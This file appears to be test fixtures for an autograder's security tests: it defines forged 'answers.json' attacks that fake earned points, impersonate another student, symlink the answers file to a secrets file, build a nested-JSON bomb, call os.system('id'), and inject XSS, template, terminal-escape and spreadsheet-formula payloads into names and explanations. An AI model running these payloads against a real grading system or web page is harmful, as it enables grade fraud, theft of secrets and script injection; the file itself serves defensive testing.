"""Forged answers: ``answers.json`` written by hand as it should not be, and text that is more than text.

The file is put there just before the notebook's process ends itself, so that nothing sets it right again.
"""

from hostile import Attack

_LEAVE = "\nos._exit(0)\n"
NOT_READ = "answers.json cannot be read"


def changed(code: str, *trouble: str, earns: dict[str, float] | None = None, also: tuple[str, ...] = ()) -> Attack:
    """The file as it should be (``book``), but for what the code changes."""
    before = "book = _loads(open('answers.json').read())\nanswers = book['answers']\n"
    after = "\nopen('answers.json', 'w').write(_dumps(book))" + _LEAVE
    return Attack(
        {"q2-12": before + code + after},
        honestly=("q2-1", *also),
        earns={"2.1": 2} if earns is None else earns,
        trouble=trouble,
    )


# Of each part that is asked for, something that is none; with claims of points where there is room for them.
ODD_PARTS = """
answers["2.1"] = {"V": {"kind": "expression", "value": ["call", "__import__('os').system('id')"]}}
answers["2.10"] = {"spectrum": {"kind": "function", "outputs": [[[1.0, 2.0], [1e308, 1e308]]] * 4},
                   "figure": {"kind": "figure", "axes": [{"title": "", "xlabel": "", "ylabel": "", "lines": []}] * 99}}
answers["2.11"]["omega_n"] = {"kind": "number", "value": 20.0, "points": 2, "out_of": 2, "status": "right", "share": 1}
answers["2.12"] = {"J_l": {"kind": "number", "value": True}, "K_s": {"kind": "number", "value": "1.3"}}
answers["points"] = {"total": {"kind": "number", "value": 11}}
answers["2.18"] = {"total": {}}
"""
SLOW = """
great = ["pow", ["int", 10**20], ["int", 64]]
tree = ["add", *(["sqrt", ["add", great, ["int", number]]] for number in range(160))]
answers["2.1"] = {"V": {"kind": "expression", "value": tree}}
"""

SOMEBODY_ELSE = """
book["student"], book["probe_seed"], book["bench"] = OUTSIDE["neighbour"], 7, {"uri": "qube:0"}
"""

#: The file's place is taken by these bytes, or by a link; nothing else is left of what was answered.
NESTED = "data = b'{\"answers\":' + b'[' * 100_000 + b']' * 100_000 + b'}'\nopen('answers.json', 'wb').write(data)"
LINK = "os.unlink('answers.json')\nos.symlink(OUTSIDE['secrets'][0], 'answers.json')"

FORGED = {
    "nested": Attack({"q2-12": NESTED + _LEAVE}, earns={}, trouble=("lists or objects",), runs=False),
    "a-link-to-the-key": Attack({"q2-12": LINK + _LEAVE}, earns={}, trouble=(NOT_READ,), runs=False),
    "odd-parts": changed(ODD_PARTS, "Malformed: V: There is no 'call'", "Malformed: K_s:", earns={}),
    "slow": changed(SLOW, "Malformed: It cannot be worked out (TooSlow)", earns={}),
    "somebody-else": changed(
        SOMEBODY_ELSE, "The answers say that they are", "not tried on the inputs", also=("q2-10",)
    ),
    "escapes-in-names": changed(
        "book['student'] = '=cmd|' + chr(27) + '[2J' + chr(0x202e) + '<script>'\n"
        "answers['<img src=x onerror=alert(1)>'] = {chr(27) + '[31m' + chr(0x9b) + '=1+1': {}}",
        "The answers say that they are",
    ),
}


MARKUP = (
    "</td></tr></table><script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>"
    "<meta http-equiv=refresh content='0;url=https://example.com'><!-- {{ 7*7 }} {% include '/etc/passwd' %} ]]>&#60;b>"
)
ESCAPES = "\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202eevil\\u2066\\u200b\\ud800\\x00[red]rich[/red]\\r=1+1"


FORMULA = '=HYPERLINK("https://example.com/?"&A1)\\n@SUM(1)\\n+1\\n-1\\t=2'
#: An explanation, which earns nothing before a person has read it.
_EXPLAINED = f"lab.answer('2.11', explanation='{FORMULA}' + {MARKUP!r} + '{ESCAPES}')"
TEXT = {"markup": Attack({"q2-11": "", "q2-12": _EXPLAINED}, runs=False)}
